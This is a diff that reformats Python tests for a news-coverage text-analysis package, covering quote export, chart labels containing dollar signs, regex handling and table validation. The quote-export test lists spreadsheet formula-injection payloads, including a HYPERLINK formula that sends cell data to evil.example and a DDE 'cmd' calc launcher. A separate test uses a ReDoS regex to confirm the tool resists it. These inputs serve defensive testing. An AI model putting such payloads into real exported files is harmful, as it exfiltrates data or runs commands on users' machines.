@@ -56,8 +56,14 @@ def test_formula_cells_get_a_quote_in_front():
 
 
 def test_quote_export_neutralises_every_formula_and_quotes_every_field(seed_quotes):
-    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
-               "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1",
+        "\r=1",
+    ]
     quotes = seed_quotes.head(len(hostile)).copy()
     quotes["quote"] = hostile
     quotes["speaker"] = ["=Erdogan", "Katz", None, "@x", "-", "Nobody"]
@@ -98,15 +104,21 @@ def test_dollar_outlets_draw_in_every_chart():
     labels = [t.get_text() for t in ax.get_yticklabels()][::-1]
     assert all(_drawn_as_written(t, o) for t, o in zip(labels, DOLLAR_OUTLETS, strict=True))
 
-    per_day = pd.DataFrame({"period": pd.to_datetime(["2024-08-01"] * 5), "outlet": DOLLAR_OUTLETS,
-                            "articles": [1, 2, 3, 4, 5]})
+    per_day = pd.DataFrame(
+        {
+            "period": pd.to_datetime(["2024-08-01"] * 5),
+            "outlet": DOLLAR_OUTLETS,
+            "articles": [1, 2, 3, 4, 5],
+        }
+    )
     ax = plots.timeline(per_day)
     ax.figure.canvas.draw()
     legend = [t.get_text() for t in ax.get_legend().get_texts()]
     assert sorted(t.replace(r"\$", "$").strip() for t in legend) == sorted(DOLLAR_OUTLETS)
 
-    key = pd.DataFrame({"outlet": "A$AP $x$", "term": ["$5", "a$b$c", "x", "y"],
-                        "score": [2.0, 1.0, -1.0, -2.0]})
+    key = pd.DataFrame(
+        {"outlet": "A$AP $x$", "term": ["$5", "a$b$c", "x", "y"], "score": [2.0, 1.0, -1.0, -2.0]}
+    )
     ax = plots.keyness_bars(key, title="A$AP $ave: used more")
     ax.figure.canvas.draw()
     assert _drawn_as_written(ax.get_title(), "A$AP $ave: used more")
@@ -115,20 +127,32 @@ def test_dollar_outlets_draw_in_every_chart():
     for a in plots.top_terms(counts):
         a.figure.canvas.draw()
 
-    trend = pd.DataFrame({"period": pd.to_datetime(["2024-08-01", "2024-09-01"]),
-                          "outlet": "US$ 5 and $^{", "share": [0.1, 0.2]})
+    trend = pd.DataFrame(
+        {
+            "period": pd.to_datetime(["2024-08-01", "2024-09-01"]),
+            "outlet": "US$ 5 and $^{",
+            "share": [0.1, 0.2],
+        }
+    )
     plots.term_trend(trend, title="$share$ of $x").figure.canvas.draw()
 
-    speakers = pd.DataFrame({"speaker": ["Mr $mith", "$pe$aker"], "outlet": DOLLAR_OUTLETS[:2],
-                             "n_quotes": [3, 1]})
+    speakers = pd.DataFrame(
+        {"speaker": ["Mr $mith", "$pe$aker"], "outlet": DOLLAR_OUTLETS[:2], "n_quotes": [3, 1]}
+    )
     ax = plots.speakers_per_outlet(speakers)
     ax.figure.canvas.draw()
     ticks = [t.get_text() for t in ax.get_yticklabels()]
     assert [t.replace(r"\$", "$") for t in ticks] == ["$pe$aker", "Mr $mith"]
 
-    profile = pd.DataFrame({"outlet": DOLLAR_OUTLETS[:3], "shared_share": [0.1, 0.2, 0.3],
-                            "loaded_per_1000": [1.0, 2.0, 3.0], "loaded_own_voice": [1.0] * 3,
-                            "n_articles": [1, 2, 3]})
+    profile = pd.DataFrame(
+        {
+            "outlet": DOLLAR_OUTLETS[:3],
+            "shared_share": [0.1, 0.2, 0.3],
+            "loaded_per_1000": [1.0, 2.0, 3.0],
+            "loaded_own_voice": [1.0] * 3,
+            "n_articles": [1, 2, 3],
+        }
+    )
     plots.outlet_profiles(profile).figure.canvas.draw()
 
 
@@ -140,15 +164,25 @@ def test_report_runs_on_dollar_outlets(tmp_path):
     for f in SEEDS.iterdir():
         (folder / f.name).write_bytes(f.read_bytes())
     # Invented articles whose outlets reach the charts' ticks, legends and titles.
-    records = [{"id": f"d{i}", "source": outlet, "date": "2024-08-0" + str(i + 1),
-                "text": f"Turkey and Israel ({outlet}) said the talks on $5 aid would go on. "
-                        "The council met on Tuesday to discuss it."}
-               for i, outlet in enumerate(["$5 News", "A$AP $ave", "50% $ off $x^{"])]
-    (folder / "dollars.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n",
-                                          encoding="utf-8")
-    pages = build_report(folder, tmp_path / "report", progress=False,
-                         notebooks=[NOTEBOOKS / "01_ingestion.ipynb",
-                                    NOTEBOOKS / "02_word_frequencies.ipynb"])
+    records = [
+        {
+            "id": f"d{i}",
+            "source": outlet,
+            "date": "2024-08-0" + str(i + 1),
+            "text": f"Turkey and Israel ({outlet}) said the talks on $5 aid would go on. "
+            "The council met on Tuesday to discuss it.",
+        }
+        for i, outlet in enumerate(["$5 News", "A$AP $ave", "50% $ off $x^{"])
+    ]
+    (folder / "dollars.jsonl").write_text(
+        "\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8"
+    )
+    pages = build_report(
+        folder,
+        tmp_path / "report",
+        progress=False,
+        notebooks=[NOTEBOOKS / "01_ingestion.ipynb", NOTEBOOKS / "02_word_frequencies.ipynb"],
+    )
     assert [p.name for p in pages] == ["01_ingestion.html", "02_word_frequencies.html"]
     assert "A$AP $ave" in pages[0].read_text(encoding="utf-8")
 
@@ -156,8 +190,13 @@ def test_report_runs_on_dollar_outlets(tmp_path):
 # ------------------------------------------------------------------ class 9: user regexes
 
 REDOS = "(a+)+$"
-DOCS = pd.DataFrame({"doc_id": ["x", "y"], "outlet": ["X", "Y"],
-                     "text": ["Prices in the U.S. rose (a+)+$ today.", "USA prices fell."]})
+DOCS = pd.DataFrame(
+    {
+        "doc_id": ["x", "y"],
+        "outlet": ["X", "Y"],
+        "text": ["Prices in the U.S. rose (a+)+$ today.", "USA prices fell."],
+    }
+)
 
 
 def test_kwic_is_literal_by_default():
@@ -179,8 +218,11 @@ def test_kwic_regex_runs_in_re2():
 
 @pytest.mark.parametrize("pattern", [r"(\w+) \1", r"prices(?= rose)", r"(?<!U)SA"])
 def test_kwic_regex_re2_cannot_run_is_one_clear_line(pattern):
-    with pytest.raises(ValueError, match=r"not a regular expression RE2 can run .*backreferences"
-                                         r" and lookarounds are not supported"):
+    with pytest.raises(
+        ValueError,
+        match=r"not a regular expression RE2 can run .*backreferences"
+        r" and lookarounds are not supported",
+    ):
         kwic(DOCS, pattern, regex=True)
 
 
@@ -198,25 +240,60 @@ def test_user_regex_offsets_survive_lone_surrogates_and_astral_characters():
 def test_kwic_catastrophic_regex_returns_promptly():
     # Python's re would backtrack 2^n times here; RE2 is linear. Run in a child process so that
     # a regression fails the test (timeout) instead of freezing the suite.
-    code = ("import pandas as pd; from analysis.compare.terms import kwic; "
-            "d = pd.DataFrame({'doc_id': ['x'], 'text': ['a' * 50000 + 'b']}); "
-            f"print(len(kwic(d, {REDOS!r}, regex=True)))")
+    code = (
+        "import pandas as pd; from analysis.compare.terms import kwic; "
+        "d = pd.DataFrame({'doc_id': ['x'], 'text': ['a' * 50000 + 'b']}); "
+        f"print(len(kwic(d, {REDOS!r}, regex=True)))"
+    )
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
-    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
-                          timeout=60, env=env, check=True)
+    done = subprocess.run(
+        [sys.executable, "-c", code],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env=env,
+        check=True,
+    )
     assert done.stdout.split()[-1] == "0"
 
 
 # ------------------------------------------------------------------ class 10: bad tables
 
-GOOD = pd.DataFrame({"doc_id": ["a", "b"], "outlet": ["X", "Y"],
-                     "text": ["Israel said the war is over. Turkey agreed.",
-                              "Turkey said the war in Israel is over."]})
-QUOTES = pd.DataFrame({"doc_id": ["a"], "outlet": ["X"], "speaker": ["Erdogan"],
-                       "quote": ["we won"], "kind": ["direct"], "speaker_type": ["person"]})
-ALIGNMENT = pd.DataFrame({c: pd.Series(dtype=t) for c, t in [
-    ("doc_a", "str"), ("doc_b", "str"), ("passage_a", "str"), ("passage_b", "str"),
-    ("start_a", "int64"), ("end_a", "int64"), ("start_b", "int64"), ("end_b", "int64")]})
+GOOD = pd.DataFrame(
+    {
+        "doc_id": ["a", "b"],
+        "outlet": ["X", "Y"],
+        "text": [
+            "Israel said the war is over. Turkey agreed.",
+            "Turkey said the war in Israel is over.",
+        ],
+    }
+)
+QUOTES = pd.DataFrame(
+    {
+        "doc_id": ["a"],
+        "outlet": ["X"],
+        "speaker": ["Erdogan"],
+        "quote": ["we won"],
+        "kind": ["direct"],
+        "speaker_type": ["person"],
+    }
+)
+ALIGNMENT = pd.DataFrame(
+    {
+        c: pd.Series(dtype=t)
+        for c, t in [
+            ("doc_a", "str"),
+            ("doc_b", "str"),
+            ("passage_a", "str"),
+            ("passage_b", "str"),
+            ("start_a", "int64"),
+            ("end_a", "int64"),
+            ("start_b", "int64"),
+            ("end_b", "int64"),
+        ]
+    }
+)
 ALIGNMENT.attrs["pairs"] = [("a", "b")]
 
 CALLS = {
@@ -239,8 +316,11 @@ CALLS = {
 
 @pytest.mark.parametrize("fn", sorted(CALLS))
 def test_missing_text_column_is_one_clear_line(fn):
-    with pytest.raises(ValueError, match=rf"^{fn}: docs has no column 'text' \(it has 'doc_id', "
-                                         r"'outlet'\); pass a table with columns"):
+    with pytest.raises(
+        ValueError,
+        match=rf"^{fn}: docs has no column 'text' \(it has 'doc_id', "
+        r"'outlet'\); pass a table with columns",
+    ):
         CALLS[fn](GOOD.drop(columns="text"))
 
 
@@ -248,13 +328,27 @@ def test_missing_text_column_is_one_clear_line(fn):
 def test_non_string_text_is_one_clear_line(fn):
     bad = GOOD.assign(text=pd.Series([5, GOOD["text"][1]], dtype=object))
     owner = "story_texts" if fn.startswith("story") else fn
-    with pytest.raises(ValueError, match=rf"^{owner}: text of doc_id 'a' is int 5, not str; "
-                                         r"convert the column"):
+    with pytest.raises(
+        ValueError,
+        match=rf"^{owner}: text of doc_id 'a' is int 5, not str; "
+        r"convert the column",
+    ):
         CALLS[fn](bad)
 
 
-@pytest.mark.parametrize("fn", ["kwic", "compared_pairs", "coverage", "unique_passages",
-                                "lexicon_hits", "framing", "sourcing", "story_table"])
+@pytest.mark.parametrize(
+    "fn",
+    [
+        "kwic",
+        "compared_pairs",
+        "coverage",
+        "unique_passages",
+        "lexicon_hits",
+        "framing",
+        "sourcing",
+        "story_table",
+    ],
+)
 def test_missing_doc_id_column_is_one_clear_line(fn):
     with pytest.raises(ValueError, match=rf"^{fn}: docs has no column 'doc_id'"):
         CALLS[fn](GOOD.drop(columns="doc_id"))
@@ -264,8 +358,16 @@ def test_keyness_on_an_empty_corpus_is_an_empty_table_with_its_columns():
     for method, extras in (("log_odds", ["log_odds_ratio"]), ("g2", ["g2", "p_value"])):
         out = keyness(GOOD.iloc[:0], method=method)
         assert out.empty
-        assert list(out.columns) == ["outlet", "term", "count", "ref_count", "n", "ref_n",
-                                     "score", *extras]
+        assert list(out.columns) == [
+            "outlet",
+            "term",
+            "count",
+            "ref_count",
+            "n",
+            "ref_n",
+            "score",
+            *extras,
+        ]
     with pytest.raises(ValueError, match=r"no articles where \['outlet'\] == 'X'"):
         keyness(GOOD.iloc[:0], target="X")
 
@@ -287,8 +389,11 @@ def test_story_groups_missing_column_and_mismatched_stories():
 
 
 def test_alignment_naming_unknown_articles_is_one_clear_line():
-    with pytest.raises(ValueError, match=r"^coverage: the alignment refers to doc_id 'a', "
-                                         r"which docs does not have \(2 such\)"):
+    with pytest.raises(
+        ValueError,
+        match=r"^coverage: the alignment refers to doc_id 'a', "
+        r"which docs does not have \(2 such\)",
+    ):
         coverage(GOOD.iloc[:0], ALIGNMENT)
     with pytest.raises(ValueError, match=r"^align_passages: the pairs refers to doc_id 'zz'"):
         align_passages(GOOD, pairs=[("a", "zz")])
@@ -314,10 +419,16 @@ def test_kwic_regex_classes_keep_pythons_unicode_meaning():
 
 
 def test_windows_out_of_range_are_one_clear_line():
-    with pytest.raises(ValueError, match=r"^kwic: window must be a whole number of words >= 0, "
-                                         r"not -1"):
+    with pytest.raises(
+        ValueError,
+        match=r"^kwic: window must be a whole number of words >= 0, "
+        r"not -1",
+    ):
         kwic(GOOD, "war", window=-1)
-    with pytest.raises(ValueError, match=r"^collocations: window must be a whole number of "
-                                         r"words >= 1, not 0"):
+    with pytest.raises(
+        ValueError,
+        match=r"^collocations: window must be a whole number of "
+        r"words >= 1, not 0",
+    ):
         collocations(GOOD, "war", window=0)
     assert kwic(GOOD, "war", window=0)[["left", "right"]].values.tolist() == [["", ""]] * 2
